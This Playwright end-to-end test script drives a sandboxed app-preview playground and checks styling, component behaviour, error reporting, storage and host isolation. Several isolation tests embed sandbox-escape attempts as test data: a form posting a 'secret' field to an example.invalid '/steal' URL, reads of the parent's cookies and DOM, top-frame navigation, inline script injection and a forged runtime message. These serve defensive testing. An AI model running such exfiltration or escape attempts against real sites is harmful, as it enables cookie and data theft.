// Drives Debian's Chromium with playwright-core against a running appbundle server: the
// playground (host page, one origin) embeds /preview (another origin) in a sandboxed iframe and
// loads apps over the bridge. Prints one JSON object of observations; tests/preview.rs asserts.
// Usage: node preview-e2e.mjs <host base> <preview base> <fixtures dir> <cases JSON>
import { join } from 'node:path';
import { launch, loadApp, openPlayground, readApp } from './harness.mjs';

const [hostBase, previewBase, fixturesDir, casesJson] = process.argv.slice(2);
const cases = JSON.parse(casesJson);

const browser = await launch();
const page = await browser.newPage();
const frame = await openPlayground(page, hostBase, previewBase);
await page.evaluate(() => {
  document.cookie = 'host-secret=42';
});
const frameTags = await frame().evaluate(
  () => document.querySelectorAll('script[src*="/runtime-deps/"]').length,
);

// Loads files in the preview and waits for the outcome; returns messages seen for this load.
async function load(files, wait = 'rendered') {
  const { messages, settled } = await loadApp(page, files, { wait });
  if (!settled) throw new Error(`no ${wait} message in 30 s: ${JSON.stringify(messages)}`);
  return messages;
}

// Loads a fixture app that must render; a failure names the app and its errors.
async function loadRendered(name) {
  const messages = await load(readApp(join(fixturesDir, name)));
  if (!messages.some((m) => m.type === 'rendered')) {
    throw new Error(`${name} did not render: ${JSON.stringify(messages)}`);
  }
  return messages;
}

const out = { sample: { scriptsAfterFirstLoad: frameTags }, apps: {}, checks: {} };
for (const name of cases.apps) {
  const messages = await load(readApp(join(fixturesDir, name)));
  const text = await frame().evaluate(() => document.getElementById('root').innerText);
  const svg = await frame().evaluate(() => document.querySelectorAll('#root svg').length);
  out.apps[name] = {
    rendered: messages.some((m) => m.type === 'rendered'),
    errors: messages
      .filter((m) => m.type === 'error' || (m.type === 'console' && m.level === 'error'))
      .map((m) => m.message || m.args.join(' ')),
    text: text.slice(0, 2000),
    svg,
    notes: messages
      .filter((m) => m.type === 'console' && m.level === 'info')
      .map((m) => m.args.join(' ')),
  };
}

// Tailwind: the CSS generated for the app's classes is applied.
await load({
  'App.tsx': [
    'export default function App() {',
    '  return (',
    '    <div id="card" className="flex flex-col gap-4 p-4 rounded-lg bg-blue-500 text-white font-bold">',
    '      <h1 id="title" className="text-2xl">Styled by Tailwind</h1>',
    '      <img id="avatar" className="rounded flex-shrink-0 blur z-[60] relative" alt="" />',
    '      <p id="note" className="rounded-l overflow-ellipsis flex-grow">Tailwind 3 names</p>',
    '      <div id="varbox" className="w-(--box-width) bg-(--box-color)" style={{ "--box-width": "123px", "--box-color": "rgb(1, 2, 3)" } as React.CSSProperties} />',
    '      <p id="leading" className="text-sm/6">Tailwind 4 names</p>',
    '      <p id="check" className="before:content-[\'✓\'] data-disabled:opacity-50" data-disabled="">done</p>',
    '      <div id="enter" className="animate-in fade-in-0 zoom-in-95 slide-in-from-top-2">shadcn animation</div>',
    '      <input id="field" className="placeholder-gray-400 ring-1 ring-inset" placeholder="Name" />',
    '    </div>',
    '  );',
    '}',
    '',
  ].join('\n'),
});
out.checks.tailwind = await frame().evaluate(() => {
  const card = getComputedStyle(document.getElementById('card'));
  const title = getComputedStyle(document.getElementById('title'));
  return {
    display: card.display,
    flexDirection: card.flexDirection,
    padding: card.padding,
    gap: card.rowGap,
    borderRadius: card.borderTopLeftRadius,
    fontWeight: card.fontWeight,
    color: card.color,
    background: card.backgroundColor,
    titleSize: title.fontSize,
    titleMargin: title.marginTop,
    // Tailwind 3 names generated apps use, which Tailwind 4 renamed or dropped.
    v3: (() => {
      const avatar = getComputedStyle(document.getElementById('avatar'));
      const note = getComputedStyle(document.getElementById('note'));
      return {
        rounded: avatar.borderTopLeftRadius,
        shrink: avatar.flexShrink,
        blur: avatar.filter,
        z: avatar.zIndex,
        roundedLeft: [note.borderTopLeftRadius, note.borderTopRightRadius],
        ellipsis: note.textOverflow,
        grow: note.flexGrow,
        varWidth: getComputedStyle(document.getElementById('varbox')).width,
        varColor: getComputedStyle(document.getElementById('varbox')).backgroundColor,
      };
    })(),
    // Tailwind 4 and tailwindcss-animate names that shadcn/ui and newer models write.
    v4: (() => {
      const leading = getComputedStyle(document.getElementById('leading'));
      const check = document.getElementById('check');
      const enter = getComputedStyle(document.getElementById('enter'));
      const field = document.getElementById('field');
      return {
        leading: [leading.fontSize, leading.lineHeight],
        before: getComputedStyle(check, '::before').content,
        dataDisabled: getComputedStyle(check).opacity,
        animation: [enter.animationName, enter.animationDuration],
        placeholder: getComputedStyle(field, '::placeholder').color,
        ringInset: getComputedStyle(field).boxShadow.includes('inset'),
      };
    })(),
  };
});

// Theme tokens (shadcn/ui style): the colors read the theme's CSS variables, light by default
// and dark under `.dark`.
await load({
  'App.tsx': [
    'export default function App() {',
    '  return (',
    '    <div>',
    '      <button id="primary" className="bg-primary text-primary-foreground border border-input">Save</button>',
    '      <div className="dark"><p id="muted" className="bg-background text-muted-foreground">dark</p><p id="variant" className="text-foreground dark:text-destructive">variant</p></div>',
    '    </div>',
    '  );',
    '}',
    '',
  ].join('\n'),
});
out.checks.theme = await frame().evaluate(() => {
  const button = getComputedStyle(document.getElementById('primary'));
  const muted = getComputedStyle(document.getElementById('muted'));
  return {
    background: button.backgroundColor,
    color: button.color,
    border: button.borderTopColor,
    darkBackground: muted.backgroundColor,
    darkMuted: muted.color,
    darkVariant: getComputedStyle(document.getElementById('variant')).color,
  };
});

// The built-in kit (shadcn/ui style): dialog, tabs, select and toast work by real clicks, the
// colors come from the theme's variables, and nothing logs an error on the way.
{
  const from = await page.evaluate(() => window.__playground.messages.length);
  await load(readApp(join(fixturesDir, 'ok-kit-dashboard')));
  const f = frame();
  const kit = {};
  kit.components = await f.evaluate(() =>
    [
      ...new Set(
        [...document.querySelectorAll('[data-slot]')].map((e) => e.dataset.slot.split('-')[0]),
      ),
    ].sort(),
  );
  // Colors before any pointer rests on a component (hover states change them).
  kit.styles = await f.evaluate(() => {
    const notify = getComputedStyle(document.getElementById('notify'));
    const card = getComputedStyle(document.getElementById('profile'));
    const tabsList = getComputedStyle(document.querySelector('[data-slot=tabs-list]'));
    return {
      buttonBackground: notify.backgroundColor,
      buttonColor: notify.color,
      buttonHeight: notify.height,
      buttonRadius: notify.borderTopLeftRadius,
      cardBorder: card.borderTopColor,
      cardRadius: card.borderTopLeftRadius,
      tabsListBackground: tabsList.backgroundColor,
    };
  });
  await f.getByRole('button', { name: 'Open dialog' }).click();
  const dialog = f.getByRole('dialog');
  await dialog.waitFor({ timeout: 5000 });
  kit.dialog = await dialog.innerText();
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached', timeout: 5000 });
  await f.getByRole('button', { name: 'Delete account' }).click();
  const confirm = f.getByRole('alertdialog');
  await confirm.waitFor({ timeout: 5000 });
  kit.alertDialog = await confirm.getByRole('heading').innerText();
  await confirm.getByRole('button', { name: 'Cancel' }).click();
  await confirm.waitFor({ state: 'detached', timeout: 5000 });
  kit.collapsedBefore = await f.getByText('Hidden details').count();
  await f.getByRole('button', { name: 'Show details' }).click();
  kit.collapsibleOpened = await f.getByText('Hidden details').innerText();
  await f.getByRole('radio', { name: 'Grid' }).click();
  kit.toggleGroup = await f.getByRole('radio', { name: 'Grid' }).getAttribute('data-state');
  await f.getByRole('tab', { name: 'Settings' }).click();
  kit.tab = await f.getByRole('tabpanel').innerText();
  await f.getByRole('combobox').click();
  await f.getByRole('option', { name: 'Banana' }).click();
  kit.picked = await f.locator('#picked').innerText();
  kit.selectTrigger = await f.getByRole('combobox').innerText();
  await f.getByRole('button', { name: 'Notify' }).click();
  const toast = f.locator('[data-sonner-toast]');
  await toast.first().waitFor({ timeout: 5000 });
  kit.toast = await toast.first().innerText();
  await f.getByRole('button', { name: 'Archive', exact: true }).click();
  const archived = f.locator('[data-sonner-toast]', { hasText: 'Archived' });
  await archived.waitFor({ timeout: 5000 });
  kit.legacyToast = await archived.innerText();
  kit.legacyToastAction = await archived.getByRole('button', { name: 'Undo archive' }).count();
  await page.waitForTimeout(300);
  const messages = await page.evaluate((from) => window.__playground.messages.slice(from), from);
  kit.errors = messages
    .filter(
      (m) =>
        m.type === 'error' || (m.type === 'console' && (m.level === 'error' || m.level === 'warn')),
    )
    .map((m) => m.message || m.args.join(' '));
  out.checks.kit = kit;
}

// The kit's Form (react-hook-form + zod): the message appears on an invalid submit, with the
// input marked invalid and labelled by its FormLabel; a valid one goes through.
{
  const from = await page.evaluate(() => window.__playground.messages.length);
  await load(readApp(join(fixturesDir, 'ok-kit-form')));
  const f = frame();
  const form = {};
  await f.getByRole('button', { name: 'Submit' }).click();
  const message = f.locator('[data-slot=form-message]');
  await message.waitFor({ timeout: 5000 });
  form.message = await message.innerText();
  const input = f.getByLabel('Username');
  form.invalid = await input.getAttribute('aria-invalid');
  form.describedBy = (await input.getAttribute('aria-describedby')).split(' ').length;
  await input.fill('ada');
  await f.getByRole('button', { name: 'Submit' }).click();
  await f.locator('#saved').waitFor({ timeout: 5000 });
  form.saved = await f.locator('#saved').innerText();
  form.messageAfter = await message.count();
  const messages = await page.evaluate((from) => window.__playground.messages.slice(from), from);
  form.errors = messages
    .filter(
      (m) =>
        m.type === 'error' || (m.type === 'console' && (m.level === 'error' || m.level === 'warn')),
    )
    .map((m) => m.message || m.args.join(' '));
  out.checks.kitForm = form;
}

// A form that does not prevent its default cannot send anything: the preview's CSP has
// `form-action 'none'`, so the frame stays where it is.
await load({
  'App.tsx':
    'export default () => <form action="http://example.invalid/steal" method="post"><input name="secret" defaultValue="42" /><button id="send">send</button></form>;\n',
});
await frame().locator('#send').click();
await page.waitForTimeout(500);
out.checks.formPost = {
  stayed: !!frame() && (await frame().locator('#send').count()) === 1,
  url: frame()?.url().split('?')[0] ?? null,
};

// An app's own components/ui/button.tsx wins over the kit's.
await load(readApp(join(fixturesDir, 'ok-kit-own-button')));
out.checks.ownButton = await frame().evaluate(() => {
  const button = document.querySelector('#root button');
  return {
    own: button.dataset.ownButton ?? null,
    slot: button.dataset.slot ?? null,
    text: button.innerText,
    kitCard: !!document.querySelector('[data-slot=card]'),
  };
});

// A click changes state.
await load(readApp(join(fixturesDir, 'ok-counter')));
const before = await frame().locator('[data-testid=count]').innerText();
await frame().getByText('Increment').click();
const after = await frame().locator('[data-testid=count]').innerText();
out.checks.click = { before, after };

// Hot reload: the page and its dependency scripts stay; the content changes.
await frame().evaluate(() => {
  window.__marker = 'kept';
});
const hot1 = await load({
  'App.tsx': 'export default function App() { return <p id="v">version one</p>; }\n',
});
const hot2 = await load({
  'App.tsx': 'export default function App() { return <p id="v">version two</p>; }\n',
});
out.checks.hotReload = {
  marker: await frame().evaluate(() => window.__marker),
  text: await frame().evaluate(() => document.getElementById('v').innerText),
  coreScripts: await frame().evaluate(
    // One React build: core's refresh build, which the preview asks for.
    () => document.querySelectorAll('script[src*="/runtime-deps/core"]').length,
  ),
  warmLoadMs: hot2.find((m) => m.type === 'rendered')?.ms ?? null,
  coldishLoadMs: hot1.find((m) => m.type === 'rendered')?.ms ?? null,
};

// Load to first paint with warm dependency bundles: ten new apps (each bundled on the server,
// a cache miss), lucide + date-fns already loaded by earlier cases.
out.timing = [];
for (let i = 0; i < 10; i++) {
  const messages = await load({
    'App.tsx': `import { useState } from 'react';\nimport { Heart } from 'lucide-react';\nimport { format } from 'date-fns';\nexport default function App() {\n  const [n, setN] = useState(${i});\n  return <button onClick={() => setN(n + 1)}><Heart /> {n} {format(new Date(2024, 0, 1), 'PP')}</button>;\n}\n`,
  });
  out.timing.push(messages.find((m) => m.type === 'rendered').ms);
}

// A thrown error shows the right TSX line.
const thrown = await load({
  'App.tsx': [
    "import { useState } from 'react';",
    '',
    'export default function App() {',
    '  const [n] = useState(0);',
    '  if (n === 0) {',
    "    throw new Error('broken on purpose');",
    '  }',
    '  return <p>never</p>;',
    '}',
    '',
  ].join('\n'),
});
const renderError = thrown.find((m) => m.type === 'error');
out.checks.renderError = renderError
  ? {
      message: renderError.message,
      file: renderError.file,
      line: renderError.line,
      frame: renderError.frame,
    }
  : null;
out.checks.overlay = await frame().evaluate(
  () => document.getElementById('appbundle-overlay')?.innerText ?? null,
);

// An event handler error, too.
await load({
  'App.tsx':
    "export default function App() {\n  return <button onClick={() => {\n    JSON.parse('{oops');\n  }}>fail</button>;\n}\n",
});
const clickErrorFrom = await page.evaluate(() => window.__playground.messages.length);
await frame().getByText('fail').click();
await page.waitForTimeout(300);
const clickError = (
  await page.evaluate((from) => window.__playground.messages.slice(from), clickErrorFrom)
).find((m) => m.type === 'error');
out.checks.handlerError = clickError ? { file: clickError.file, line: clickError.line } : null;

// A build error from /bundle reaches the host with its position.
const build = await load(
  { 'App.tsx': "import fs from 'fs';\nexport default () => <p>{String(fs)}</p>;\n" },
  'error',
);
const buildError = build.find((m) => m.type === 'error');
out.checks.buildError = buildError
  ? { kind: buildError.kind, code: buildError.code, line: buildError.line, file: buildError.file }
  : null;

// Apps written for React from script tags: the globals are bound, the app mounts itself, the
// stylesheet nothing imports is applied, state works; the legacy ReactDOM.render too.
await load(readApp(join(fixturesDir, 'ok-script-tag-app')));
const scriptTag = frame().locator('[data-testid=script-tag-count]');
const scriptTagColor = await scriptTag.evaluate((e) => getComputedStyle(e).color);
await frame().getByText('Add one').click();
await frame().waitForFunction(
  () => document.querySelector('[data-testid=script-tag-count]').textContent !== '0',
);
const scriptTagCount = await scriptTag.textContent();
await load(readApp(join(fixturesDir, 'ok-script-tag-legacy-render')));
await frame().getByPlaceholder('New chore').fill('Take out the bins');
await frame().getByText('Add').click();
await frame().waitForFunction(() => document.querySelectorAll('li').length === 2);
out.checks.scriptTag = {
  color: scriptTagColor,
  count: scriptTagCount,
  legacy: await frame().evaluate(() => document.querySelector('h2').textContent),
};

// Web Storage in the opaque-origin preview: no SecurityError, property access, storage
// events on the page, and localStorage kept by the host across loads.
const testText = (id) =>
  frame().evaluate((id) => document.querySelector(`[data-testid=${id}]`).textContent, id);
const storageLoad = await load(readApp(join(fixturesDir, 'ok-web-storage')));
const firstVisit = {
  visits: await testText('visits'),
  errors: storageLoad
    .filter((m) => m.type === 'error' || (m.type === 'console' && m.level !== 'log'))
    .map((m) => m.message || m.args.join(' ')),
};
await frame().getByText('Switch theme').click();
await frame().waitForFunction(
  () => document.querySelector('[data-testid=heard]').textContent === 'Heard: theme = dark',
);
await load(readApp(join(fixturesDir, 'ok-web-storage')));
out.checks.webStorage = {
  first: firstVisit,
  second: {
    visits: await testText('visits'),
    theme: await testText('theme'),
    session: await testText('session'),
    keys: await testText('keys'),
  },
  host: await page.evaluate(() =>
    (window.__playground.store['visitor:__localStorage'] || [])
      .map((i) => `${i.id}=${i.value}`)
      .sort(),
  ),
};

// Field, input group and item: a click on the addon focuses the input, a bad value shows the
// field's error.
await load(readApp(join(fixturesDir, 'ok-kit-fields-and-items')));
await frame().getByTestId('addon').click();
const focused = await frame().evaluate(() => document.activeElement.id);
await frame().locator('#site').fill('nodomain');
await frame().waitForSelector('[data-slot=field-error]');
out.checks.kitFields = await frame().evaluate(
  (focused) => ({
    focused,
    error: document.querySelector('[data-slot=field-error]').textContent,
    items: document.querySelectorAll('[data-slot=item]').length,
  }),
  focused,
);

// Drawer (vaul) and input-otp: the drawer opens from its trigger, typed digits fill the slots.
await load(readApp(join(fixturesDir, 'ok-kit-drawer-otp')));
await frame().getByText('Verify phone').click();
await frame().waitForSelector('[data-slot=drawer-content]');
await frame().locator('input[data-input-otp]').first().focus();
await page.keyboard.type('123456');
await frame().waitForFunction(
  () => document.querySelector('[data-testid=code]').textContent === 'Code: 123456',
);
out.checks.kitDrawer = await frame().evaluate(() => ({
  title: document.querySelector('[data-slot=drawer-title]').textContent,
  slots: Array.from(document.querySelectorAll('[data-slot=input-otp-slot]')).map(
    (slot) => slot.textContent,
  ),
  code: document.querySelector('[data-testid=code]').textContent,
}));

// Context menu: a right-click on the trigger opens it, an item runs its action.
await load(readApp(join(fixturesDir, 'ok-kit-context-menu')));
await frame().getByTestId('file').click({ button: 'right' });
await frame().waitForSelector('[data-slot=context-menu-content]');
const menuItems = await frame().evaluate(() =>
  Array.from(document.querySelectorAll('[data-slot=context-menu-item]')).map((i) => i.innerText),
);
await frame().getByText('Duplicate').click();
await frame().waitForFunction(
  () => document.querySelector('[data-testid=last]').textContent === 'Last action: duplicated',
);
out.checks.kitContextMenu = {
  items: menuItems,
  last: await frame().evaluate(() => document.querySelector('[data-testid=last]').textContent),
};

// Sidebar: in the narrow preview it is the mobile sheet; in a wide one the trigger and Ctrl+B
// collapse it to its icon rail and expand it again.
await loadRendered('ok-kit-sidebar');
await frame().getByTestId('toggle').click();
await frame().waitForSelector('[data-slot=sidebar][data-mobile=true]');
const mobileItems = await frame().evaluate(() =>
  Array.from(document.querySelectorAll('[data-mobile=true] [data-slot=sidebar-menu-button]')).map(
    (b) => b.innerText,
  ),
);
await page.keyboard.press('Escape');
await page.setViewportSize({ width: 1800, height: 900 });
await frame().waitForFunction(
  () => document.querySelector('[data-slot=sidebar-gap]')?.getBoundingClientRect().width > 0,
);
const sidebarNow = () =>
  frame().evaluate(() => ({
    state: document.querySelector('[data-slot=sidebar][data-side]').getAttribute('data-state'),
    gap: Math.round(
      document.querySelector('[data-slot=sidebar-gap]').getBoundingClientRect().width,
    ),
    label: document.querySelector('[data-testid=state]').textContent,
  }));
const sidebarExpanded = await sidebarNow();
await frame().getByTestId('toggle').click();
await page.waitForTimeout(400); // the width transition
const sidebarCollapsed = await sidebarNow();
await page.keyboard.press('Control+b');
await page.waitForTimeout(400);
out.checks.kitSidebar = {
  mobileItems,
  expanded: sidebarExpanded,
  collapsed: sidebarCollapsed,
  shortcut: await sidebarNow(),
};
await page.setViewportSize({ width: 1280, height: 720 });

// Chart: recharts draws each series in the config's color, the theme's --chart-1 and --chart-2.
await loadRendered('ok-kit-chart');
out.checks.kitChart = await frame().evaluate(() => {
  const resolved = (value) => {
    const probe = document.createElement('span');
    probe.style.color = value;
    document.querySelector('[data-slot=chart]').appendChild(probe);
    const color = getComputedStyle(probe).color;
    probe.remove();
    return color;
  };
  const fills = Array.from(document.querySelectorAll('.recharts-bar-rectangle path')).map(
    (path) => getComputedStyle(path).fill,
  );
  return {
    bars: fills.length,
    fills: Array.from(new Set(fills)),
    theme: [resolved('var(--chart-1)'), resolved('var(--chart-2)')],
    legend: Array.from(document.querySelectorAll('[data-slot=chart-legend] > div')).map(
      (d) => d.innerText,
    ),
  };
});

// Calendar: a click selects the day; the range calendar marks the days between its ends.
await loadRendered('ok-kit-calendar');
await frame()
  .locator('[data-slot=calendar]')
  .first()
  .locator('button', { hasText: /^15$/ })
  .click();
await frame().waitForFunction(
  () => document.querySelector('[data-testid=picked]').textContent !== 'Pick a day',
);
out.checks.kitCalendar = await frame().evaluate(() => {
  const selected = document.querySelector('[data-selected-single=true]');
  return {
    picked: document.querySelector('[data-testid=picked]').textContent,
    selected: selected?.textContent,
    selectedBackground: selected && getComputedStyle(selected).backgroundColor,
    primary: (() => {
      const probe = document.createElement('span');
      probe.style.color = 'var(--primary)';
      document.body.appendChild(probe);
      const color = getComputedStyle(probe).color;
      probe.remove();
      return color;
    })(),
    rangeMiddle: Array.from(document.querySelectorAll('[data-range-middle=true]')).map(
      (b) => b.textContent,
    ),
  };
});

// Command: typing filters the items, Enter runs the one left, Ctrl+K opens the dialog.
await loadRendered('ok-kit-command');
const commandItems = () =>
  frame().evaluate(() =>
    Array.from(document.querySelectorAll('[data-slot=command-item]')).map((i) => i.innerText),
  );
const allCommands = await commandItems();
await frame().getByPlaceholder('Type a command or search...').fill('calc');
await page.waitForTimeout(200);
const filtered = await commandItems();
await page.keyboard.press('Enter');
await frame().getByPlaceholder('Type a command or search...').fill('zzz');
await page.waitForTimeout(200);
const empty = await frame().evaluate(
  () => document.querySelector('[data-slot=command-empty]')?.textContent,
);
await page.keyboard.press('Control+k');
await frame().waitForSelector('[role=dialog] [data-slot=command-input]');
out.checks.kitCommand = {
  all: allCommands.length,
  filtered,
  ran: await frame().evaluate(() => document.querySelector('[data-testid=ran]').textContent),
  empty,
  dialog: await frame().evaluate(() =>
    Array.from(document.querySelectorAll('[role=dialog] [data-slot=command-item]')).map(
      (i) => i.innerText,
    ),
  ),
};

// Carousel: the next button advances a slide.
await loadRendered('ok-kit-carousel');
const carouselBefore = await frame().evaluate(
  () => document.querySelector('[data-testid=counter]').textContent,
);
await frame().locator('[data-slot=carousel-next]').click();
await frame().waitForFunction(
  () => document.querySelector('[data-testid=counter]').textContent === 'Slide 2 of 5',
);
out.checks.kitCarousel = {
  before: carouselBefore,
  after: await frame().evaluate(() => document.querySelector('[data-testid=counter]').textContent),
};

// Resizable: dragging the handle widens the first panel.
await loadRendered('ok-kit-resizable');
const folders = frame().getByTestId('folders');
const widthBefore = (await folders.boundingBox()).width;
const handle = await frame().getByTestId('handle').boundingBox();
await page.mouse.move(handle.x + handle.width / 2, handle.y + handle.height / 2);
await page.mouse.down();
await page.mouse.move(handle.x + handle.width / 2 + 120, handle.y + handle.height / 2, {
  steps: 8,
});
await page.mouse.up();
out.checks.kitResizable = {
  before: Math.round(widthBefore),
  after: Math.round((await folders.boundingBox()).width),
  vertical: await frame().evaluate(
    () => document.querySelectorAll('[data-panel-group-direction=vertical]').length > 0,
  ),
};

// Menubar and navigation menu: menus open from their triggers, items and checkboxes act.
await loadRendered('ok-kit-menubar-nav');
// Radix opens a trigger on hover after 200 ms and a click does not cancel that timer: a click
// followed by Escape within 200 ms of the pointer arriving is reopened by it. So: hover opens
// (the timer spent), a click closes, a second click opens with focus in the frame for Escape.
const products = frame().getByText('Products');
await products.hover();
await frame().waitForSelector('[data-slot=navigation-menu-content]');
await products.click();
await frame().waitForSelector('[data-slot=navigation-menu-content]', { state: 'hidden' });
await products.click();
await frame().waitForSelector('[data-slot=navigation-menu-content]');
const navLinks = await frame().evaluate(() =>
  Array.from(
    document.querySelectorAll(
      '[data-slot=navigation-menu-content] [data-slot=navigation-menu-link]',
    ),
  ).map((l) => l.querySelector('div').textContent),
);
await page.keyboard.press('Escape');
await frame().waitForSelector('[data-slot=navigation-menu-content]', { state: 'hidden' });
await frame().getByText('File', { exact: true }).click();
await frame().waitForSelector('[data-slot=menubar-content]');
await frame().getByText('Print').click();
await frame().getByText('View', { exact: true }).click();
await frame().getByText('Word wrap').click();
await frame().waitForFunction(
  () => document.querySelector('[data-testid=last]').textContent === 'Last: print, wrap off',
);
out.checks.kitMenubar = {
  navLinks,
  last: await frame().evaluate(() => document.querySelector('[data-testid=last]').textContent),
};

// IndexedDB in the opaque origin: idb, localforage and raw indexedDB work on the in-memory one,
// which keeps its data while the page lives (a second load counts a second visit).
await loadRendered('ok-indexeddb');
await frame().waitForFunction(
  () => document.querySelector('[data-testid=theme]').textContent === 'Theme: dark',
);
await frame().getByText('Add note').click();
await frame().waitForFunction(
  () => document.querySelectorAll('[data-testid=notes] li').length === 1,
);
await frame().getByText('Add note').click();
await frame().waitForFunction(
  () => document.querySelectorAll('[data-testid=notes] li').length === 2,
);
const idbFirst = await frame().evaluate(() => ({
  visits: document.querySelector('[data-testid=visits]').textContent,
  notes: Array.from(document.querySelectorAll('[data-testid=notes] li')).map(
    (li) => li.textContent,
  ),
  error: document.querySelector('[data-testid=error]')?.textContent ?? null,
}));
await loadRendered('ok-indexeddb');
await frame().waitForFunction(
  () => document.querySelector('[data-testid=visits]').textContent !== 'Visits: 0',
);
out.checks.indexedDB = {
  first: idbFirst,
  again: await frame().evaluate(() => ({
    visits: document.querySelector('[data-testid=visits]').textContent,
    notes: document.querySelectorAll('[data-testid=notes] li').length,
  })),
};

// Tailwind 3's separate opacity utilities: an overlay written `bg-black bg-opacity-50` is half
// see-through, not solid black; a color without one keeps its own.
await load({
  'App.tsx': [
    'export default function App() {',
    '  return (',
    '    <div>',
    '      <div id="overlay" className="fixed inset-0 bg-black bg-opacity-50" />',
    '      <p id="solid" className="bg-black text-white text-opacity-75">Modal</p>',
    '      <div id="grad" className="h-2 bg-gradient-to-r from-sky-500 from-10% to-emerald-500 to-90%" />',
    '      <div id="fade" className="h-2 bg-black/[.3] mask-b-from-50%" />',
    '    </div>',
    '  );',
    '}',
    '',
  ].join('\n'),
});
out.checks.legacyOpacity = await frame().evaluate(() => ({
  overlay: getComputedStyle(document.getElementById('overlay')).backgroundColor,
  solid: getComputedStyle(document.getElementById('solid')).backgroundColor,
  text: getComputedStyle(document.getElementById('solid')).color,
  gradient: getComputedStyle(document.getElementById('grad')).backgroundImage,
  fade: [
    getComputedStyle(document.getElementById('fade')).backgroundColor,
    getComputedStyle(document.getElementById('fade')).maskImage,
  ],
}));

// shadcn's newer small components: the spinner shows while creating, the group and the
// keyboard hints are there.
await load(readApp(join(fixturesDir, 'ok-kit-new-components')));
await frame().getByText('Create project').click();
await frame().waitForSelector('[data-slot=spinner][role=status]');
out.checks.kitNew = await frame().evaluate(() => ({
  button: document.querySelector('[data-slot=empty-content] button').textContent,
  group: document.querySelector('[data-slot=button-group]').getAttribute('role'),
  keys: document.querySelectorAll('[data-slot=kbd]').length,
  spinning: getComputedStyle(document.querySelector('[data-slot=spinner]')).animationName,
}));

// An entry with nothing to mount is refused at build time, not shown as a blank page.
const nothing = await load(readApp(join(fixturesDir, 'reject-no-component')), 'error');
const noComponent = nothing.find((m) => m.type === 'error');
out.checks.noComponent = noComponent
  ? { kind: noComponent.kind, code: noComponent.code, file: noComponent.file }
  : null;

// useAppData and SandboxAPI.fetch go through the bridge to the host.
await load(readApp(join(fixturesDir, 'ok-runtime-module')));
await frame().getByText('Add').click();
await page.waitForTimeout(300);
out.checks.bridge = {
  quote: await frame().evaluate(() => document.querySelector('blockquote').innerText),
  shown: await frame().evaluate(() =>
    Array.from(document.querySelectorAll('#root p')).map((p) => p.innerText),
  ),
  hostStore: await page.evaluate(() => window.__playground.store['app:notes'].map((n) => n.text)),
};
// A visitor-scoped collection reaches the host with its scope (the host keeps it apart).
await load({
  'App.tsx': [
    "import { useAppData } from '@appbundle/runtime';",
    'export default function Drafts() {',
    "  const drafts = useAppData('drafts', { scope: 'visitor' });",
    '  return <button id="save" onClick={() => drafts.create({ text: \'mine\' })}>Save {drafts.items.length}</button>;',
    '}',
    '',
  ].join('\n'),
});
await frame().click('#save');
await frame().waitForSelector('#save:has-text("Save 1")');
out.checks.scopedBridge = await page.evaluate(() => ({
  visitor: (window.__playground.store['visitor:drafts'] || []).map((d) => d.text),
  app: (window.__playground.store['app:drafts'] || []).length,
}));

// Console output and unhandled rejections reach the host; the rejection at its TSX line.
const logged = await load({
  'App.tsx': [
    "import { useEffect } from 'react';",
    'export default function App() {',
    '  useEffect(() => {',
    "    console.log('hello from the app', { n: 1 });",
    "    Promise.reject(new Error('async failure'));",
    '  }, []);',
    '  return <p>logging</p>;',
    '}',
    '',
  ].join('\n'),
});
await page.waitForTimeout(300);
const afterLog = await page.evaluate(() => window.__playground.messages.slice(-20));
const consoleMessage = [...logged, ...afterLog].find(
  (m) => m.type === 'console' && m.level === 'log',
);
const rejection = afterLog.find((m) => m.type === 'error' && m.kind === 'unhandled rejection');
out.checks.console = consoleMessage ? consoleMessage.args : null;
out.checks.rejection = rejection
  ? { message: rejection.message, file: rejection.file, line: rejection.line }
  : null;

// The app cannot drive the runtime: a load message it posts to its own window is ignored.
await load({
  'App.tsx': [
    'export default function App() {',
    "  window.postMessage({ source: 'appbundle-preview', version: 1, type: 'load', files: { 'App.tsx': 'export default () => <p id=\"hijack\">hijacked</p>;' } }, '*');",
    '  return <p id="original">original</p>;',
    '}',
    '',
  ].join('\n'),
});
await page.waitForTimeout(800);
out.checks.selfMessage = await frame().evaluate(() => ({
  original: !!document.getElementById('original'),
  hijacked: !!document.getElementById('hijack'),
}));

// Isolation: parent DOM and cookies, top navigation, inline script (CSP).
await load({
  'App.tsx': [
    'function attempt(f: () => unknown): string {',
    "  try { return 'allowed: ' + String(f()); } catch (e) { return 'blocked: ' + (e as Error).name; }",
    '}',
    'export default function App() {',
    '  const parentDom = attempt(() => window.parent.document.title);',
    '  const parentCookie = attempt(() => window.parent.document.cookie);',
    '  const ownCookie = attempt(() => document.cookie);',
    '  const storage = attempt(() => window.localStorage.length);',
    "  const top = attempt(() => { window.top!.location.href = 'http://example.invalid/'; return 'assigned'; });",
    "  const script = document.createElement('script');",
    "  script.textContent = 'window.__injected = true';",
    '  document.body.appendChild(script);',
    '  return <pre id="isolation">{JSON.stringify({ parentDom, parentCookie, ownCookie, storage, top, injected: (window as any).__injected === true })}</pre>;',
    '}',
    '',
  ].join('\n'),
});
await page.waitForTimeout(300);
out.checks.isolation = JSON.parse(
  await frame().evaluate(() => document.getElementById('isolation').innerText),
);
out.checks.hostUrl = page.url();
out.checks.resized = await page.evaluate(() =>
  window.__playground.messages.some((m) => m.type === 'resize' && m.height > 0),
);

// Standalone: /preview?hash=<hash> with no host renders the app by itself.
const standalone = await browser.newPage();
const bundled = await (
  await fetch(`${previewBase}/bundle`, {
    method: 'POST',
    headers: { 'content-type': 'text/plain' },
    body: 'import { useState } from \'react\';\nexport default function App() { const [n] = useState(41); return <p id="alone">{n + 1}</p>; }\n',
  })
).json();
const standaloneErrors = [];
standalone.on('console', (m) => {
  if (m.type() === 'error') standaloneErrors.push(m.text());
});
await standalone.goto(`${previewBase}/preview?hash=${bundled.hash}`);
await standalone.waitForSelector('#alone', { timeout: 15000 });
out.checks.standalone = {
  text: await standalone.locator('#alone').innerText(),
  errors: standaloneErrors,
};

await browser.close();
console.log(JSON.stringify(out));
